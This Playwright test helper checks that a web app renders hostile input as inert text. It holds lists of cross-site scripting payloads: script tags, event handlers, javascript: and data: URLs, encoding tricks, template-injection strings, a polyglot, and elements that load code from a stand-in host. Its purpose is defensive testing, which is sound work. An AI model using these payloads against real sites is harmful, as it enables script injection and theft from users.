import { expect, type Page } from '@playwright/test';

/** The host that a hostile text would call if it ran. Nothing must ever request it. */
export const hostileHost = 'planted.test';

const act = 'alert(1)';

/** HTML elements that run a script when inserted. Each is marked, so that the page can be searched for it. */
const elements = [
  `<script data-planted>${act}</script>`,
  `<script data-planted src=//${hostileHost}/x.js></script>`,
  `<img data-planted src=x onerror=${act}>`,
  `<img data-planted src=//${hostileHost}/x.png>`,
  `<svg data-planted onload=${act}>`,
  `<svg data-planted><script>${act}</script></svg>`,
  `<svg data-planted><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg data-planted><a href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<iframe data-planted srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe data-planted src="javascript:${act}"></iframe>`,
  `<object data-planted data="javascript:${act}"></object>`,
  `<embed data-planted src="data:text/html,<script>${act}</script>">`,
  `<video data-planted><source onerror=${act}></video>`,
  `<audio data-planted src=x onerror=${act}></audio>`,
  `<details data-planted open ontoggle=${act}>`,
  `<input data-planted autofocus onfocus=${act}>`,
  `<marquee data-planted onstart=${act}>`,
  `<math data-planted><mtext href="javascript:${act}">x</mtext></math>`,
  `<a data-planted href="javascript:${act}">x</a>`,
  `<form data-planted action="javascript:${act}"><button>x</button></form>`,
  `<meta data-planted http-equiv=refresh content="0;url=//${hostileHost}/">`,
  `<link data-planted rel=stylesheet href=//${hostileHost}/x.css>`,
  `<base data-planted href=//${hostileHost}/>`,
  `<style data-planted>@import '//${hostileHost}/x.css';*{display:none}</style>`,
  `<noscript><p title="</noscript><img data-planted src=x onerror=${act}>">`,
  `<math><style><img data-planted src=x onerror=${act}></style></math>`,
];

/** Ways to break out of the surrounding markup or to hide an element. */
const disguises: ((element: string) => string)[] = [
  (element) => element,
  (element) => `"'></textarea></title></style></script>-->${element}`,
  (element) => element.replace(/^<(\w)(\w*)/, (_, first: string, rest: string) => `<${first.toUpperCase()}${rest}`).replace('on', 'oN'),
  (element) => element.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (element) => element.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (element) => element.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (element) => `\u202E${element}\u202C\u200B`,
];

/** URLs that run a script when followed. */
export const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `\u0001javascript:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `javascript&colon;${act}`,
  `javascript&#58;${act}`,
  `javascript%3A${act}`,
  `\uFF4Aavascript:${act}`,
  `javascript\u200B:${act}`,
  `javascript://https://${hostileHost}/%0a${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg onload=${act}>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:https://${hostileHost}/1`,
  `view-source:javascript:${act}`,
  `//${hostileHost}/`,
  `\\\\${hostileHost}\\`,
  `https://example.com/"onmouseover="${act}`,
  `https://example.com/"><img data-planted src=x onerror=${act}>`,
];

/** Template expressions. */
const templates = [
  `{{constructor.constructor('${act}')()}}`,
  '{{7*7}}',
  '{{name}} {{count}}',
  `\${${act}}`,
  '$t(auth.title)',
  "$t(auth.title, {'count': 1})",
  `<%= ${act} %>`,
  '#{7*7}',
  '[[7*7]]',
  `';${act};'`,
  '__proto__',
  `*/${act}/*`,
];

/** Texts that would run, be evaluated or redirect if anything took them for more than text. */
export const hostileTexts: string[] = [...elements.flatMap((element) => disguises.map((disguise) => disguise(element))), ...addresses, ...templates];

type Watched = { dialogs: string[]; left: string[] };

/** Records what a running text would do: open a dialog, call another host, or violate the page's policy. */
export async function watch(page: Page): Promise<Watched> {
  const watched: Watched = { dialogs: [], left: [] };
  page.on('dialog', (dialog) => {
    watched.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => request.url().includes(hostileHost) && watched.left.push(request.url()));
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(globalThis, { stopped });
    document.addEventListener('securitypolicyviolation', ({ blockedURI, sourceFile }) => stopped.push(`${blockedURI} ${sourceFile}`));
  });
  return watched;
}

/** Lists what no text may put on the page: elements, handlers, links to other protocols, blocked attempts. */
export const planted = (page: Page) =>
  page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    const foreign = all.filter((one) =>
      one.matches(
        '[data-planted], base, object, embed, iframe:not(.gantt_container_resize_watcher:not([src], [srcdoc])), body script, [srcdoc], meta[http-equiv="refresh"]',
      ),
    );
    const handled = all.filter((one) => one.getAttributeNames().some((name) => name.startsWith('on')));
    const links = [...document.links].filter(({ protocol }) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol));
    const { stopped } = globalThis as unknown as { stopped: string[] };
    return [...foreign, ...handled, ...links].map(({ outerHTML }) => outerHTML.slice(0, 200)).concat(stopped);
  });

/** Lists the texts that are on the page fewer than `times` times, literally. */
export const missing = (page: Page, texts: readonly string[], times = 1) =>
  page.evaluate(
    ([wanted, least]) => {
      const shown: string[] = [];
      const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      while (walk.nextNode()) shown.push(walk.currentNode.textContent ?? '');
      return wanted.filter((text) => shown.filter((one) => one.includes(text)).length < least);
    },
    [texts, times] as const,
  );

/** Expects that no text has run or become anything but text. */
export async function expectInert(page: Page, watched: Watched, where = 'the page') {
  expect(await planted(page), where).toEqual([]);
  expect(watched, where).toEqual({ dialogs: [], left: [] });
}

/** A text that would run in most places. */
export const polyglot = `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg data-planted oNloAd=alert(1)//>`;
